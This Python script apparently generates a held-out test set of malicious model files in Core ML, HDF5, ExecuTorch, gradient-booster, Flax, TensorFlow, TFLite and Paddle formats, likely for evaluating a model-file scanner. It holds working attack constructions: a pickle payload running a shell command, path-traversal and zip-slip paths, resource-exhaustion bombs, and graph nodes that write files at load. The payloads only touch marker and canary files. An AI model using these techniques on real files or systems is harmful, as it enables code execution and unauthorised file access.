"""Write files of the second held-out set: Core ML, ExecuTorch, HDF5, boosters, TensorFlow, Paddle; see unseen2_write.py."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import json
import os
import pickle
import shutil
import struct
from collections.abc import Callable
from pathlib import Path

CANARY = "/tmp/outside/canary"
MARK = "/tmp/MARK"


class Evil:
    def __reduce__(self) -> tuple:
        return os.system, ("touch /tmp/MARK",)


def write(what: str, place: Callable[[str], str]) -> None:
    for part in {"main": (coreml, hdf5, executorch, boosters, flax), "tf": (savedmodel, tflite), "pad": (paddle,)}[
        what
    ]:
        try:
            part(place)
        except Exception:
            import traceback

            print("FAILED", part.__name__)
            traceback.print_exc()


def coreml(place: Callable[[str], str]) -> None:
    import coremltools as ct
    import numpy as np
    from coremltools.converters.mil import Builder
    from coremltools.models import datatypes
    from coremltools.models.neural_network import NeuralNetworkBuilder

    def layer() -> object:
        build = NeuralNetworkBuilder([("x", datatypes.Array(2))], [("y", datatypes.Array(2))])
        build.add_activation("a", "RELU", "x", "y")
        return build

    build = layer()
    custom = build.spec.neuralNetwork.layers[0]
    custom.ClearField("activation")
    custom.custom.className = "EvilLayer"
    custom.custom.parameters["command"].stringValue = "touch /tmp/MARK"
    ct.utils.save_spec(build.spec, place("coreml/custom-layer/m.mlmodel"))
    spec = ct.proto.Model_pb2.Model()
    spec.CopyFrom(layer().spec)
    spec.ClearField("neuralNetwork")
    spec.customModel.className = "EvilModel"
    spec.customModel.parameters["url"].stringValue = "http://127.0.0.1:8765/model"
    ct.utils.save_spec(spec, place("coreml/custom-model/m.mlmodel"))
    pipe = ct.proto.Model_pb2.Model()
    pipe.specificationVersion = 4
    pipe.description.CopyFrom(spec.description)
    pipe.pipeline.models.append(layer().spec)
    inner = pipe.pipeline.models.add()
    inner.CopyFrom(pipe.pipeline.models[0])
    inner.neuralNetwork.layers[0].ClearField("activation")
    inner.neuralNetwork.layers[0].custom.className = "EvilLayer"
    ct.utils.save_spec(pipe, place("coreml/pipeline-custom/m.mlmodel"))
    linked = ct.proto.Model_pb2.Model()
    linked.specificationVersion = 4
    linked.description.CopyFrom(spec.description)
    linked.linkedModel.linkedModelFile.linkedModelFileName.defaultValue = "../../../../outside/canary.mlmodel"
    linked.linkedModel.linkedModelFile.linkedModelSearchPath.defaultValue = "/tmp/outside"
    ct.utils.save_spec(linked, place("coreml/linked-model/m.mlmodel"))
    loop = layer().spec
    body = loop.neuralNetwork.layers.add()
    body.name = "loop"
    body.loop.maxLoopIterations = 0
    body.loop.conditionVar = "x"
    ct.utils.save_spec(loop, place("coreml/loop/m.mlmodel"))
    huge = layer().spec
    fill = huge.neuralNetwork.layers.add()
    fill.name = "fill"
    fill.output.append("z")
    fill.fillStatic.value = 1.0
    fill.fillStatic.targetShape.extend([1 << 20, 1 << 20])
    ct.utils.save_spec(huge, place("coreml/fill/m.mlmodel"))

    weights = np.ones((64, 64), np.float32)

    @Builder.program(input_specs=[Builder.TensorSpec((1, 64))])
    def program(x: object) -> object:
        return Builder.matmul(x=x, y=weights, name="y")

    model = ct.convert(program, convert_to="mlprogram", minimum_deployment_target=ct.target.iOS16)
    folder = place("coreml/whole.mlpackage")
    model.save(folder)

    def package(name: str, edit: Callable[[Path], None]) -> None:
        to = Path(place(f"coreml/{name}/m.mlpackage/x")).parent
        shutil.copytree(folder, to, dirs_exist_ok=True)
        edit(to)

    def manifest(change: Callable[[dict], None]) -> Callable[[Path], None]:
        def edit(to: Path) -> None:
            value = json.loads((to / "Manifest.json").read_text())
            change(value)
            (to / "Manifest.json").write_text(json.dumps(value))

        return edit

    def root(value: dict) -> dict:
        return value["itemInfoEntries"][value["rootModelIdentifier"]]

    package("manifest-dots", manifest(lambda v: root(v).update(path="../../../../../../outside/canary.txt")))
    package("manifest-absolute", manifest(lambda v: root(v).update(path="/tmp/outside/canary.txt")))
    package(
        "manifest-extra",
        manifest(
            lambda v: v["itemInfoEntries"].update({"x": {**root(v), "name": "setup.sh", "path": "com.evil/run.sh"}})
        ),
    )

    def blob(to: Path, path: str, offset: int = 64) -> None:
        file = to / "Data" / "com.apple.CoreML" / "model.mlmodel"
        one = ct.proto.Model_pb2.Model()
        one.ParseFromString(file.read_bytes())
        for function in one.mlProgram.functions.values():
            for block in function.block_specializations.values():
                for operation in block.operations:
                    for value in operation.attributes.values():
                        if value.WhichOneof("value") == "blobFileValue":
                            value.blobFileValue.fileName, value.blobFileValue.offset = path, offset
        file.write_bytes(one.SerializeToString())

    package("blob-dots", lambda to: blob(to, "@model_path/weights/../../../../../../../../../outside/canary.bin"))
    package("blob-absolute", lambda to: blob(to, "/tmp/outside/canary.bin"))
    package("blob-offset", lambda to: blob(to, "@model_path/weights/weight.bin", 1 << 50))
    package(
        "hidden-pickle",
        lambda to: (to / "Data" / "com.apple.CoreML" / "weights" / "extra.bin").write_bytes(pickle.dumps(Evil())),
    )

    def operation(to: Path) -> None:
        file = to / "Data" / "com.apple.CoreML" / "model.mlmodel"
        one = ct.proto.Model_pb2.Model()
        one.ParseFromString(file.read_bytes())
        function = one.mlProgram.functions["main"]
        function.block_specializations[function.opset].operations[-1].type = "custom_evil"
        file.write_bytes(one.SerializeToString())

    package("custom-operation", operation)
    shutil.rmtree(folder)


def hdf5(place: Callable[[str], str]) -> None:
    import h5py
    import numpy as np
    import pandas as pd
    import tables

    evil = pickle.dumps(Evil(), 4)
    at = lambda what: place(f"hdf5b/{what}/m.h5")
    with h5py.File(at("void-pickle"), "w") as h:
        h["model"] = np.void(evil)
    with h5py.File(at("attribute-pickle"), "w") as h:
        h.attrs["estimator"] = np.void(evil)
    with h5py.File(at("bytes-pickle"), "w") as h:
        h.create_dataset("models", data=[evil, evil], dtype=h5py.vlen_dtype(np.uint8)) if False else None
        d = h.create_dataset("models", (1,), dtype=h5py.vlen_dtype(np.uint8))
        d[0] = np.frombuffer(evil, "u1")
    with h5py.File(at("compressed-pickle"), "w") as h:
        h.create_dataset(
            "blob", data=np.frombuffer(evil + b"\0" * 4000, "u1"), chunks=(1024,), compression="gzip", shuffle=True
        )
    frame = pd.DataFrame({"a": [Evil.__new__(Evil)], "b": [1.0]}, dtype=object)
    frame.to_hdf(at("pandas-fixed"), key="model")
    with pd.HDFStore(at("pandas-attribute"), "w") as store:
        store["model"] = pd.DataFrame({"a": [1.0]})
        store.get_storer("model").attrs.metadata = Evil()
    with h5py.File(at("soft-external"), "w") as h:
        h["a"] = h5py.ExternalLink("/tmp/outside/canary.h5", "/data")
        h["w"] = h5py.SoftLink("/a")
    with h5py.File(at("deep-external"), "w") as h:
        group = h
        for i in range(40):
            group = group.create_group(f"g{i}")
        group["w"] = h5py.ExternalLink("../../../../outside/canary.h5", "data")
    with h5py.File(at("virtual-pattern"), "w") as h:
        layout = h5py.VirtualLayout((11,), "u1")
        layout[:] = h5py.VirtualSource("/tmp/outside/canary.h5", "data", (11,))
        h.create_virtual_dataset("w", layout, fillvalue=7)
    with h5py.File(at("external-two"), "w") as h:
        h.create_dataset("w", (72,), "u1", external=[("part.bin", 0, 8), (CANARY + ".txt", 8, 64)])
    Path(at("external-two")).with_name("part.bin").write_bytes(b"\0" * 8)
    with h5py.File(at("cycle"), "w") as h:
        a = h.create_group("a")
        a["again"] = h["/"]
        a["b"] = a
    with h5py.File(at("chunk-bomb"), "w") as h:
        for i in range(3):
            d = h.create_dataset(f"w{i}", (1 << 32,), "u1", chunks=(1 << 28,), compression="gzip", compression_opts=9)
            d[: 1 << 28] = 0
    with h5py.File(at("fill-2d"), "w") as h:
        h.create_dataset("w", (1 << 20, 1 << 20), "f8", chunks=(1, 1 << 20), fillvalue=1.0)
    with h5py.File(at("scale-offset"), "w") as h:
        h.create_dataset("w", (1 << 33,), "i4", chunks=(1 << 26,), scaleoffset=0)
    with tables.open_file(at("pytables-enum"), "w") as t:
        t.create_array(t.root, "x", [1, 2])
        t.root.x._v_attrs.FLAVOR_PICKLE = Evil()
        t.root._v_attrs.estimator = Evil()
    with tables.open_file(at("pytables-nested"), "w") as t:
        group = t.create_group("/", "models")
        t.create_vlarray(group, "m", tables.ObjectAtom()).append({"a": [Evil()]})
    layers = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": "4wEAAAAAAAAAAAAAAA==", "defaults": None, "closure": None},
                        },
                    },
                }
            ],
        },
    }
    with h5py.File(at("keras-variable-text"), "w") as h:
        h.attrs["keras_version"] = "3.0.0"
        h.attrs["backend"] = "tensorflow"
        h.attrs.create("model_config", json.dumps(layers), dtype=h5py.string_dtype())
    with h5py.File(at("keras-external-weights"), "w") as h:
        layer = h.create_group("layers/dense/vars")
        layer["0"] = h5py.ExternalLink("../../../../outside/canary.h5", "data")
    with h5py.File(at("anndata"), "w") as h:
        h.attrs["encoding-type"] = "anndata"
        h.attrs["encoding-version"] = "0.1.0"
        u = h.create_group("uns")
        u["model"] = np.void(evil)


def executorch(place: Callable[[str], str]) -> None:
    import torch
    from executorch.exir import to_edge

    class Net(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.add(x, x) * 2

    program = to_edge(torch.export.export(Net(), (torch.ones(4),))).to_executorch()
    good = bytes(program.buffer)
    at = lambda what, data: Path(place(f"executorch/{what}/m.pte")).write_bytes(data)
    at("custom-operator", good.replace(b"aten::add", b"evil::run"))
    at("trailing-pickle", good + pickle.dumps(Evil()))
    from executorch.exir._serialize._program import deserialize_pte_binary, serialize_pte_binary
    from executorch.exir.schema import Instruction, JumpFalseCall

    try:
        file = deserialize_pte_binary(good)
        p = getattr(file, "program", file)
        plan = p.execution_plan[0]
        plan.non_const_buffer_sizes = [0, 1 << 50]
        at("buffer-size", bytes(serialize_pte_binary(file if hasattr(file, "program") else p)))
        file = deserialize_pte_binary(good)
        p = getattr(file, "program", file)
        p.execution_plan[0].chains[0].instructions[0].instr_args.op_index = 1 << 20
        at("operator-index", bytes(serialize_pte_binary(file if hasattr(file, "program") else p)))
        file = deserialize_pte_binary(good)
        p = getattr(file, "program", file)
        p.execution_plan[0].chains[0].instructions[0].instr_args.args = [1 << 20] * 3
        at("argument-index", bytes(serialize_pte_binary(file if hasattr(file, "program") else p)))
        del Instruction, JumpFalseCall
    except Exception as error:
        print("executorch", repr(error))


def boosters(place: Callable[[str], str]) -> None:
    import catboost
    import lightgbm
    import numpy as np
    import xgboost

    x, y = np.random.default_rng(0).random((50, 2)), np.array([0, 1] * 25)
    at = lambda what, file: place(f"boosters2/{what}/{file}")
    model = xgboost.train({"max_depth": 2, "objective": "binary:logistic"}, xgboost.DMatrix(x, y), 2)
    text = bytes(model.save_raw("json")).decode()
    one = json.loads(text)

    def xgb(what: str, change: Callable[[dict], object]) -> None:
        value = json.loads(text)
        change(value["learner"])
        Path(at(what, "m.json")).write_text(json.dumps(value))

    tree = lambda v: v["gradient_booster"]["model"]["trees"][0]
    xgb("xgboost-far-child", lambda v: tree(v)["left_children"].__setitem__(0, 1 << 28))
    xgb("xgboost-negative", lambda v: tree(v)["left_children"].__setitem__(0, -5))
    xgb("xgboost-far-feature", lambda v: tree(v)["split_indices"].__setitem__(0, 1 << 29))
    xgb("xgboost-features", lambda v: v["learner_model_param"].update(num_feature=str(1 << 31)))
    xgb("xgboost-classes", lambda v: v["learner_model_param"].update(num_class=str(1 << 30)))
    xgb("xgboost-nodes", lambda v: tree(v)["tree_param"].update(num_nodes=str(1 << 30)))
    xgb("xgboost-short", lambda v: tree(v).update(right_children=[1]))
    xgb("xgboost-iterations", lambda v: v["gradient_booster"]["model"].update(iteration_indptr=[0, 1 << 30]))
    xgb("xgboost-groups", lambda v: v["gradient_booster"]["model"].update(tree_info=[1 << 28, 1 << 28]))
    xgb(
        "xgboost-parallel",
        lambda v: v["gradient_booster"]["model"]["gbtree_model_param"].update(num_parallel_tree=str(1 << 31)),
    )
    ubj = bytes(model.save_raw("ubj"))
    at_l = ubj.find(b"L", 20)
    Path(at("ubjson-length", "m.ubj")).write_bytes(ubj[: at_l + 1] + struct.pack(">q", 1 << 50) + ubj[at_l + 9 :])
    Path(at("ubjson-nested", "m.ubj")).write_bytes(b"{L" + struct.pack(">q", 7) + b"learner" + b"[" * 2_000_000)
    place_of = ubj.find(b"[$")
    Path(at("ubjson-array", "m.ubj")).write_bytes(
        ubj[:place_of] + b"[$d#L" + struct.pack(">q", 1 << 44) + ubj[place_of + 13 :]
    )
    del one
    light = lightgbm.train(
        {"objective": "binary", "verbose": -1, "num_leaves": 4, "min_data_in_leaf": 2}, lightgbm.Dataset(x, y), 2
    )
    body = light.model_to_string()
    lines = body.split("\n")

    def lgb(what: str, key: str, value: str) -> None:
        done, out = False, []
        for line in lines:
            if line.startswith(key + "=") and not done:
                line, done = f"{key}={value}", True
            out.append(line)
        if not done:
            print("lightgbm: no", key)
        Path(at(what, "m.txt")).write_text("\n".join(line for line in out if not line.startswith("tree_sizes=")))

    lgb("lightgbm-far-child", "left_child", "1000000 2000000 3000000")
    lgb("lightgbm-negative", "right_child", "-1000000 -2000000 -3000000")
    lgb("lightgbm-feature", "split_feature", "1000000 1 0")
    lgb("lightgbm-features", "max_feature_idx", "2147483646")
    lgb("lightgbm-classes", "num_class", "1000000000")
    lgb("lightgbm-category", "num_cat", "2000000000")
    lgb("lightgbm-iteration", "num_tree_per_iteration", "0")
    Path(at("lightgbm-categorical", "m.txt")).write_text(
        body.replace("pandas_categorical:null", "pandas_categorical:" + "[" * 200000)
    )
    Path(at("lightgbm-machines", "m.txt")).write_text(
        body.replace(
            "parameters:\n",
            "parameters:\n[data: /tmp/outside/canary.txt]\n[output_model: /tmp/MARK]\n[input_model: /tmp/outside/canary.txt]\n[machine_list_filename: /tmp/outside/canary.txt]\n",
            1,
        )
    )
    Path(at("lightgbm-sizes", "m.txt")).write_text(
        "\n".join("tree_sizes=4 4000000000" if line.startswith("tree_sizes=") else line for line in lines)
    )
    cat = catboost.CatBoostClassifier(iterations=2, depth=2, verbose=False, allow_writing_files=False).fit(x, y)
    cat.save_model(at("catboost-length", "m.cbm"))
    data = Path(at("catboost-length", "m.cbm")).read_bytes()
    Path(at("catboost-length", "m.cbm")).write_bytes(data[:4] + struct.pack("<I", 0xFFFFFFF0) + data[8:])
    Path(at("catboost-tail", "m.cbm")).write_bytes(data + pickle.dumps(Evil()))
    Path(at("catboost-root", "m.cbm")).write_bytes(data[:8] + struct.pack("<I", 0x7FFFFFF0) + data[12:])
    cat.save_model(at("catboost-json-splits", "m.json"), format="json")
    value = json.loads(Path(at("catboost-json-splits", "m.json")).read_text())
    value["oblivious_trees"][0]["splits"] = value["oblivious_trees"][0]["splits"] * 40
    Path(at("catboost-json-splits", "m.json")).write_text(json.dumps(value))
    value = json.loads(json.dumps(value))
    value["oblivious_trees"][0]["splits"] = value["oblivious_trees"][1]["splits"]
    value["oblivious_trees"][0]["leaf_values"] = [1.0]
    Path(at("catboost-json-leaves", "m.json")).write_text(json.dumps(value))
    value["oblivious_trees"][0]["leaf_values"] = value["oblivious_trees"][1]["leaf_values"]
    value["features_info"]["float_features"][0]["flat_feature_index"] = 1 << 29
    Path(at("catboost-json-feature", "m.json")).write_text(json.dumps(value))


def flax(place: Callable[[str], str]) -> None:
    import flax.serialization as s
    import msgpack
    import numpy as np
    import orbax.checkpoint as ocp

    tree = {"params": {"Dense_0": {"kernel": np.ones((2, 3), np.float32)}}}
    good = s.msgpack_serialize(tree)
    evil = pickle.dumps(Evil())
    at = lambda what, data: Path(place(f"flax/{what}/flax_model.msgpack")).write_bytes(data)
    at("bytes-pickle", s.msgpack_serialize({**tree, "opt": evil}))
    at("extension-pickle", msgpack.packb({"params": msgpack.ExtType(42, evil)}))
    at("trailing", good + evil)
    at(
        "numpy-object",
        msgpack.packb(
            {
                b"params": {
                    b"nd": True,
                    b"type": b"O",
                    b"kind": b"O",
                    b"shape": (1,),
                    b"data": pickle.dumps(np.array([Evil()], dtype=object)),
                }
            }
        ),
    )
    at("deep", b"\x91" * 3_000_000 + b"\xc0")
    at("shape", msgpack.packb({"w": msgpack.ExtType(1, msgpack.packb(((1 << 40,), "float32", b"\0" * 16)))}))
    at(
        "chunks",
        msgpack.packb(
            {
                "__msgpack_chunked_array__": True,
                "shape": {"0": 1 << 40},
                "chunks": {"0": msgpack.ExtType(1, msgpack.packb(((1,), "float32", b"\0" * 4)))},
            }
        ),
    )
    at("map-count", b"\xdf\xff\xff\xff\xff" + good[1:])
    folder = Path(place("flax/orbax-shape/ck/x")).parent
    shutil.rmtree(folder, ignore_errors=True)
    with ocp.Checkpointer(ocp.PyTreeCheckpointHandler(use_ocdbt=False, use_zarr3=False)) as c:
        c.save(str(folder), {"w": np.ones(4, np.float32)})
    for path in folder.rglob(".zarray"):
        value = json.loads(path.read_text())
        value["shape"], value["chunks"], value["fill_value"] = [1 << 36], [1 << 20], 1.0
        path.write_text(json.dumps(value))


def savedmodel(place: Callable[[str], str]) -> None:
    import tensorflow as tf
    from tensorflow.core.protobuf import saved_model_pb2

    raw = tf.raw_ops
    spec = [tf.TensorSpec([None], tf.float32)]

    def save(name: str, body: Callable, **more: object) -> None:
        class Module(tf.Module):
            def __init__(self) -> None:
                super().__init__()
                for key, value in more.items():
                    setattr(self, key, value() if callable(value) else value)

            @tf.function(input_signature=spec)
            def __call__(self, x: tf.Tensor) -> tf.Tensor:
                return body(x)

        module = Module()
        place(f"savedmodel2/{name}/m/x")
        tf.saved_model.save(module, os.path.dirname(place(f"savedmodel2/{name}/m/x")), signatures=module.__call__)

    def after(make: Callable) -> Callable:
        def body(x: tf.Tensor) -> tf.Tensor:
            with tf.control_dependencies([make(x)]):
                return tf.identity(x)

        return body

    number = lambda t: tf.cast(tf.reduce_sum(tf.strings.length(t)), tf.float32)

    def tried(name: str, body: Callable) -> None:
        try:
            save(name, body)
        except Exception as error:
            print("savedmodel", name, repr(error)[:300])

    tried("py-function", lambda x: tf.py_function(lambda v: v, [x], tf.float32))
    tried("numpy-function", lambda x: tf.numpy_function(lambda v: v, [x], tf.float32))
    tried(
        "immutable-const",
        lambda x: (
            x
            + tf.cast(
                tf.reduce_sum(
                    tf.cast(raw.ImmutableConst(dtype=tf.uint8, shape=[8], memory_region_name=CANARY + ".txt"), tf.int32)
                ),
                tf.float32,
            )
        ),
    )
    tried(
        "fixed-records",
        lambda x: (
            x
            + number(
                raw.ReaderReadV2(reader_handle=raw.WholeFileReaderV2(), queue_handle=_queue(tf, CANARY + ".txt")).value
            )
        ),
    )
    tried(
        "text-reader",
        lambda x: (
            x
            + number(
                raw.ReaderReadV2(reader_handle=raw.TextLineReaderV2(), queue_handle=_queue(tf, CANARY + ".txt")).value
            )
        ),
    )
    tried(
        "record-dataset",
        lambda x: (
            x
            + tf.data.FixedLengthRecordDataset(CANARY + ".txt", 4).reduce(
                0.0, lambda a, b: a + tf.cast(tf.strings.length(b), tf.float32)
            )
        ),
    )
    tried(
        "csv-dataset",
        lambda x: (
            x
            + tf.data.experimental.CsvDataset(CANARY + ".txt", [""]).reduce(
                0.0, lambda a, b: a + tf.cast(tf.strings.length(b), tf.float32)
            )
        ),
    )
    tried(
        "cache-dataset",
        lambda x: x + tf.data.Dataset.range(3).cache(MARK).reduce(0.0, lambda a, b: a + tf.cast(b, tf.float32)),
    )
    tried(
        "snapshot-dataset",
        lambda x: x + tf.data.Dataset.range(3).snapshot(MARK).reduce(0.0, lambda a, b: a + tf.cast(b, tf.float32)),
    )
    tried(
        "record-writer",
        after(
            lambda x: raw.DatasetToTFRecord(
                input_dataset=tf.data.Dataset.from_tensors(tf.strings.as_string(x[0]))._variant_tensor,
                filename=MARK,
                compression_type="",
            )
        ),
    )
    tried("save-slices", after(lambda x: raw.Save(filename=MARK, tensor_names=["a"], data=[x])))
    tried(
        "restore",
        lambda x: (
            x
            + raw.RestoreV2(
                prefix="/tmp/outside/canary", tensor_names=["x"], shape_and_slices=[""], dtypes=[tf.float32]
            )[0]
        ),
    )
    tried("hash-table", lambda x: x + tf.cast(_table(tf), tf.float32))
    tried(
        "sql-dataset",
        lambda x: (
            x
            + tf.data.experimental.SqlDataset("sqlite", CANARY + ".txt", "select 1", (tf.int64,)).reduce(
                0.0, lambda a, b: a + 1.0
            )
        ),
    )
    tried(
        "decode-proto",
        lambda x: (
            x
            + number(
                raw.DecodeProtoV2(
                    bytes=tf.constant(b""),
                    message_type="a.B",
                    field_names=[],
                    output_types=[],
                    sanitize=False,
                    descriptor_source=CANARY + ".txt",
                ).sizes
                if False
                else tf.constant(["a"])
            )
        ),
    )
    tried(
        "remote-call",
        lambda x: (
            x
            + raw.RemoteCall(
                target="/job:worker/replica:0/task:0",
                args=[x],
                Tout=[tf.float32],
                f=tf.function(lambda v: v, input_signature=spec).get_concrete_function(),
            )[0]
        ),
    )
    tried(
        "matching-write",
        after(lambda x: tf.map_fn(lambda v: (tf.io.write_file(MARK, tf.strings.as_string(v)), v)[1], x)),
    )
    tried(
        "nested-function",
        lambda x: tf.function(lambda v: after(lambda w: tf.io.write_file(MARK, "x"))(v), input_signature=spec)(x),
    )
    tried(
        "cond-write",
        lambda x: tf.cond(tf.reduce_sum(x) > 0.0, lambda: after(lambda w: tf.io.write_file(MARK, "x"))(x), lambda: x),
    )
    tried("computed-path", after(lambda x: tf.io.write_file(tf.strings.join(["/tm", "p/MARK"]), "x")))
    tried("delete-checkpoint", lambda x: tf.reshape(tf.tile(x, [1 << 40]), [-1])[:1])
    tried("broadcast", lambda x: tf.reduce_sum(tf.broadcast_to(x[0], [1 << 20, 1 << 17]) * 1.5) + x)
    tried("range", lambda x: x + tf.reduce_sum(tf.random.shuffle(tf.range(0.0, 2e10, 1.0))))
    tried("one-hot", lambda x: x + tf.reduce_sum(tf.one_hot(tf.range(1 << 17), 1 << 17) * x[0]))
    tried(
        "string-double",
        lambda x: (
            x
            + number(
                tf.while_loop(
                    lambda i, s: i < 60, lambda i, s: (i + 1, tf.strings.join([s, s])), (0, tf.constant("AAAAAAAA"))
                )[1]
            )
        ),
    )
    tried(
        "nested-loops",
        lambda x: tf.while_loop(
            lambda i, v: i < 10**9,
            lambda i, v: (i + 1, tf.while_loop(lambda j, w: j < 10**9, lambda j, w: (j + 1, w + 1.0), (0, v))[1]),
            (0, x),
        )[1],
    )
    tried("recursion", lambda x: x)

    def edited(name: str, base: str, change: Callable) -> None:
        source, to = Path(place(f"savedmodel2/{base}/m/x")).parent, Path(place(f"savedmodel2/{name}/m/x")).parent
        shutil.rmtree(to, ignore_errors=True)
        shutil.copytree(source, to)
        model = saved_model_pb2.SavedModel()
        model.ParseFromString((to / "saved_model.pb").read_bytes())
        change(model)
        (to / "saved_model.pb").write_bytes(model.SerializeToString())

    # A table is filled from an asset while the model is loaded.
    asset = Path(place("savedmodel2/vocabulary.txt"))
    asset.write_text("a\nb\n")

    class Table(tf.Module):
        def __init__(self) -> None:
            super().__init__()
            init = tf.lookup.TextFileInitializer(
                str(asset), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE, tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER
            )
            self.table = tf.lookup.StaticHashTable(init, -1)

        @tf.function(input_signature=spec)
        def __call__(self, x: tf.Tensor) -> tf.Tensor:
            return x + tf.cast(self.table.size(), tf.float32)

    module = Table()
    tf.saved_model.save(module, os.path.dirname(place("savedmodel2/table/m/x")), signatures=module.__call__)
    asset.unlink()

    def asset_path(path: str) -> Callable:
        def change(model: object) -> None:
            for graph in model.meta_graphs:
                for item in graph.asset_file_def:
                    item.filename = path

        return change

    edited("asset-dots", "table", asset_path("../../../../../../outside/canary.txt"))
    edited("asset-absolute", "table", asset_path("/tmp/outside/canary.txt"))

    def at_load(model: object) -> None:
        for function in model.meta_graphs[0].graph_def.library.function:
            for node in function.node_def:
                if node.op == "InitializeTableFromTextFileV2":
                    path = function.node_def.add()
                    path.name, path.op = "p", "Const"
                    path.attr["dtype"].type = 7
                    path.attr["value"].tensor.CopyFrom(tf.make_tensor_proto("/tmp/MARK"))
                    write_node = function.node_def.add()
                    write_node.name, write_node.op = "w", "WriteFile"
                    write_node.input.extend(["p:output:0", "p:output:0"])
                    function.control_ret["w"] = "w"
                    return

    edited("write-at-load", "table", at_load)

    def recursion(model: object) -> None:
        library = model.meta_graphs[0].graph_def.library
        for function in library.function:
            if function.signature.name.startswith("__inference___call__"):
                for node in function.node_def:
                    if node.op == "Identity" and node.attr["T"].type == 1:
                        node.op = "StatefulPartitionedCall"
                        node.ClearField("attr")
                        node.attr["f"].func.name = function.signature.name
                        node.attr["Tin"].list.type.append(1)
                        node.attr["Tout"].list.type.append(1)
                        return

    edited("self-call", "recursion", recursion)
    text = Path(place("savedmodel2/text-form/m/x")).parent
    shutil.rmtree(text, ignore_errors=True)
    shutil.copytree(Path(place("savedmodel2/computed-path/m/x")).parent, text)
    model = saved_model_pb2.SavedModel()
    model.ParseFromString((text / "saved_model.pb").read_bytes())
    (text / "saved_model.pb").unlink()
    (text / "saved_model.pbtxt").write_text(str(model))
    graph = tf.Graph()
    with graph.as_default():
        tf.io.write_file(MARK, "x", name="w")
    Path(place("savedmodel2/frozen-write/m.pb")).write_bytes(graph.as_graph_def().SerializeToString())
    Path(place("savedmodel2/graph-text/m.pbtxt")).write_text(str(graph.as_graph_def()))
    with graph.as_default():
        tf.compat.v1.train.export_meta_graph(place("savedmodel2/meta-write/m.meta"), graph=graph)
    for base in ("table", "recursion", "decode-proto"):
        shutil.rmtree(Path(place(f"savedmodel2/{base}/m/x")).parents[1])


def _queue(tf: object, path: str) -> object:
    queue = tf.raw_ops.FIFOQueueV2(component_types=[tf.string])
    with tf.control_dependencies([tf.raw_ops.QueueEnqueueV2(handle=queue, components=[tf.constant(path)])]):
        return tf.identity(queue)


def _table(tf: object) -> object:
    table = tf.raw_ops.HashTableV2(key_dtype=tf.string, value_dtype=tf.int64, shared_name="t")
    make = tf.raw_ops.InitializeTableFromTextFileV2(
        table_handle=table, filename=CANARY + ".txt", key_index=-2, value_index=-1
    )
    with tf.control_dependencies([make]):
        return tf.raw_ops.LookupTableSizeV2(table_handle=table)


def tflite(place: Callable[[str], str]) -> None:
    import tensorflow as tf
    from tensorflow.lite.python import schema_py_generated as schema
    from tensorflow.lite.tools import flatbuffer_utils

    spec = tf.TensorSpec([1], tf.float32)

    def convert(body: Callable, flex: bool = False) -> bytes:
        function = tf.function(body, input_signature=[spec]).get_concrete_function()
        converter = tf.lite.TFLiteConverter.from_concrete_functions([function])
        converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS] + [tf.lite.OpsSet.SELECT_TF_OPS] * flex
        return bytes(converter.convert())

    def put(what: str, make: Callable) -> None:
        try:
            Path(place(f"tflite2/{what}/m.tflite")).write_bytes(make())
        except Exception as error:
            print("tflite", what, repr(error)[:300])

    put(
        "loop",
        lambda: convert(lambda x: tf.while_loop(lambda v: tf.reduce_sum(v) < 1e30, lambda v: (v * 1.0,), (x,))[0]),
    )
    put("fill", lambda: convert(lambda x: x + tf.reduce_sum(tf.fill(tf.cast(x * 0.0 + 1.0e10, tf.int64), 1.0))))
    put(
        "flex-read",
        lambda: convert(lambda x: x + tf.cast(tf.strings.length(tf.io.read_file(CANARY + ".txt")), tf.float32), True),
    )
    put(
        "flex-python",
        lambda: convert(lambda x: tf.ensure_shape(tf.numpy_function(lambda v: v, [x], tf.float32), [1]), True),
    )
    good = convert(lambda x: x * 2.0 + tf.constant([1.0]))

    def edited(change: Callable) -> Callable:
        def make() -> bytes:
            model = schema.ModelT.InitFromObj(schema.Model.GetRootAsModel(bytearray(good), 0))
            change(model)
            return bytes(flatbuffer_utils.convert_object_to_bytearray(model))

        return make

    def custom(model: object) -> None:
        model.operatorCodes[0].builtinCode = model.operatorCodes[0].deprecatedBuiltinCode = 32
        model.operatorCodes[0].customCode = b"EvilRun"
        model.subgraphs[0].operators[0].builtinOptionsType = 0
        model.subgraphs[0].operators[0].builtinOptions = None

    put("custom", edited(custom))
    put("huge-tensor", edited(lambda m: setattr(m.subgraphs[0].tensors[0], "shape", [1 << 20, 1 << 14])))
    put("far-tensor", edited(lambda m: setattr(m.subgraphs[0].operators[0], "inputs", [1 << 20, 1])))
    put("far-buffer", edited(lambda m: setattr(m.subgraphs[0].tensors[1], "buffer", 1 << 20)))
    put("negative-shape", edited(lambda m: setattr(m.subgraphs[0].tensors[1], "shape", [-5])))
    put("trailing-pickle", lambda: good + pickle.dumps(Evil()))

    def slip() -> bytes:
        import io
        import zipfile

        out = io.BytesIO(good)
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("../../../../MARK", "x")
        return out.getvalue()

    put("associated-slip", slip)


def paddle(place: Callable[[str], str]) -> None:
    import paddle

    at = lambda what, file: place(f"paddle/{what}/{file}")
    Path(at("pdparams", "m.pdparams")).write_bytes(pickle.dumps({"w": Evil()}, 2))
    Path(at("pdopt", "m.pdopt")).write_bytes(pickle.dumps({"LR_Scheduler": Evil()}, 4))
    paddle.enable_static()

    def program(what: str, add: Callable, file: str = "m.pdmodel") -> None:
        try:
            with paddle.pir_utils.OldIrGuard():
                main, start = paddle.static.Program(), paddle.static.Program()
                with paddle.static.program_guard(main, start):
                    block = main.global_block()
                    feed = block.create_var(
                        name="feed", type=paddle.base.core.VarDesc.VarType.FEED_MINIBATCH, persistable=True
                    )
                    x = block.create_var(name="x", shape=[1], dtype="float32")
                    block.append_op(type="feed", inputs={"X": feed}, outputs={"Out": x}, attrs={"col": 0})
                    add(block, x)
                data = main.desc.serialize_to_string()
        except Exception as error:
            print("paddle", what, repr(error)[:400])
            return
        Path(at(what, file)).write_bytes(data)

